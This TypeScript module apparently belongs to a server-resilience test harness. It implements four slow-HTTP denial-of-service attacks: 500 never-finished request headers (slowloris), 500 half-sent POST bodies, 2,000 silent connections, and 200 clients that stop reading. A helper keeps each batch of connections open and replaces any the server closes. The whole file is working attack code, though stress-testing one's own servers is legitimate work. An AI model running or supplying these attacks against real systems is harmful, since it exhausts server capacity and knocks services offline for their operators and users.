import { setTimeout as wait } from 'node:timers/promises'
import type { Attack, Target } from './attacks.ts'
import { openRaw } from './raw-connection.ts'

/** Keeps `count` connections open that have sent the same bytes; replaces those that are closed. */
async function hold(
  { url, from, signal, note }: Target,
  count: number,
  begin: string,
  reads = true,
): Promise<void> {
  async function keep() {
    while (!signal.aborted) {
      const { socket, closed, statuses } = openRaw(url, from, reads)
      socket.write(begin)
      await Promise.race([closed, untilAborted(signal)])
      note(statuses[0] ?? (signal.aborted ? 'still open' : 'closed'))
      socket.destroy()
      await wait(20)
    }
  }
  await Promise.all(Array.from({ length: count }, keep))
}

function untilAborted(signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    signal.addEventListener('abort', () => resolve(), { once: true })
  })
}

const head = (url: string) => `Host: ${new URL(url).host}\r\n`

export const slowness: readonly Attack[] = [
  {
    name: '500 requests whose head never ends',
    run: (target) => hold(target, 500, `GET / HTTP/1.1\r\n${head(target.url)}X-Slow: `),
  },
  {
    name: '500 bodies that stop half-way',
    run: (target) =>
      hold(
        target,
        500,
        `POST /contact HTTP/1.1\r\n${head(target.url)}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nmessage=`,
      ),
  },
  { name: '2,000 connections that say nothing', run: (target) => hold(target, 2000, '') },
  {
    name: '200 readers who stop reading',
    run: (target) => hold(target, 200, `GET / HTTP/1.1\r\n${head(target.url)}\r\n`, false),
  },
]
